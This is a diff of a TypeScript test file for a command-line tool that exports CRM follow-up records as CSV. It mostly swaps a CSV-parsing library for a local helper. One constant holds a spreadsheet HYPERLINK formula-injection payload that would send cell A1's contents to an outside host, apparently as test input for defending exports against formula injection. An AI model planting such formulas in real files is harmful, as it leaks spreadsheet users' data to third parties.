@@ -12,14 +12,13 @@ import {
 import { join } from 'node:path'
 import { after, before, test } from 'node:test'
 import { promisify } from 'node:util'
-import { parse } from 'csv-parse/sync'
 import { addCompany, exportText, genjin, genjinDone, startGenjin } from '../support/cli.ts'
 import type { TestClient } from '../support/client.ts'
 import { assertFails } from '../support/failures.ts'
 import { doubleRecord, platformDouble } from '../support/platform-double.ts'
 import { follow, startTestServer, type TestServer } from '../support/server.ts'
 import { credentialsFile } from '../support/serving.ts'
-import { partOf, xlsxSheets } from '../support/sheets.ts'
+import { csvRecords, partOf, xlsxSheets } from '../support/sheets.ts'
 import { tempFolder } from '../support/temp-folder.ts'
 
 const FORMULA = `=HYPERLINK("http://example.com/?"&A1,"点我")`
@@ -68,7 +67,7 @@ const local = () => ['export', '--corp', 'sales', '--database', server.temp.data
 
 async function csvRows(args: readonly string[]): Promise<Record<string, string>[]> {
   const { stdout } = await genjinDone([...args, '--format', 'csv'])
-  return parse(stdout, { bom: true, columns: true })
+  return csvRecords(stdout)
 }
 
 test('csv from a server and from a database: the same, every follow-up once, newest first, with BOM', async () => {
@@ -76,7 +75,7 @@ test('csv from a server and from a database: the same, every follow-up once, new
   assert.equal(stderr, '已导出：2300 条跟进\n')
   assert.ok(stdout.startsWith('\ufeff跟进ID,跟进时间,跟进人ID,跟进人,跟进内容,'))
   assert.equal((await genjinDone([...local(), '--format', 'csv'])).stdout, stdout)
-  const rows = parse(stdout, { bom: true, columns: true }) as Record<string, string>[]
+  const rows = csvRecords(stdout)
   assert.deepEqual(
     rows.map((row) => row.跟进ID),
     Array.from({ length: 2300 }, (_, index) => String(2300 - index)),
@@ -156,7 +155,7 @@ test('from a server that has only the documented operations', async () => {
   await using platform = await platformDouble(records)
   const args = ['export', '--from', platform.url, '--appid', 'wxapp', '--format', 'csv']
   const { stdout } = await genjinDone(args, { env: { GENJIN_APP_SECRET: 'wxsecret' } })
-  const rows = parse(stdout, { bom: true, columns: true }) as Record<string, string>[]
+  const rows = csvRecords(stdout)
   assert.equal(rows.length, 2500)
   assert.equal(rows[0]?.跟进ID, '1538877699425542596')
   assert.equal(rows[0]?.跟进人, '张伟')
@@ -204,10 +203,7 @@ test('two exports into one file at once: the file is that of one of them, comple
   const options = ['--format', 'csv', '--out', out, '--headings', 'fields']
   const args = (...more: string[]) => [...local(), ...options, ...more]
   await Promise.all([genjinDone(args()), genjinDone(args('--target-type', '3'))])
-  const rows = parse(readFileSync(out), { bom: true, columns: true }) as {
-    id: string
-    business_type: string
-  }[]
+  const rows = csvRecords(readFileSync(out))
   assert.equal(new Set(rows.map(({ id }) => id)).size, rows.length)
   assert.ok(rows.length === 2300 || rows.every(({ business_type }) => business_type === '3'))
   assert.deepEqual(
@@ -218,17 +214,14 @@ test('two exports into one file at once: the file is that of one of them, comple
 
 test('--out: a link is followed, a folder refused before anything is read, - is standard output, a pipe is written to', async () => {
   const args = (out: string) => [...local(), '--format', 'csv', '--id-list', '1', '--out', out]
-  const [real, link, pipe] = ['real.csv', 'link.csv', 'pipe'].map((name) => join(folder.path, name)) as [
-    string,
-    string,
-    string,
-  ]
+  const inFolder = (name: string) => join(folder.path, name)
+  const [real, link, pipe] = [inFolder('real.csv'), inFolder('link.csv'), inFolder('pipe')]
   writeFileSync(real, 'before')
   symlinkSync(real, link)
   await genjinDone(args(link))
   assert.ok(lstatSync(link).isSymbolicLink())
   assert.match(readFileSync(real, 'utf8'), /跟进ID/)
-  for (const bad of [folder.path, `${join(folder.path, 'new')}/`, '']) {
+  for (const bad of [folder.path, `${inFolder('new')}/`, '']) {
     const { code, stderr } = await genjin(args(bad))
     assert.equal(code, bad === folder.path ? 1 : 2, stderr)
     assert.match(stderr, /--out/)
@@ -249,11 +242,11 @@ test('an option that is given twice is refused', async () => {
 })
 
 test('no server, no such host, not a genjin: reported soon, with the reason and without a stack', async () => {
-  for (const [url, reason] of [
+  const cases = [
     ['http://127.0.0.1:9', /ECONNREFUSED 127\.0\.0\.1:9|bad port/],
     ['http://no.such.host.invalid', /ENOTFOUND|EAI_AGAIN/],
     [`${server.url}/elsewhere`, /40400|404/],
-  ] as const) {
-    await assertFails([[['export', '--from', url, '--app', app, '--format', 'csv'], 1, reason]])
-  }
+  ] as const
+  const args = (url: string) => ['export', '--from', url, '--app', app, '--format', 'csv']
+  await assertFails(cases.map(([url, reason]) => [args(url), 1, reason]))
 })
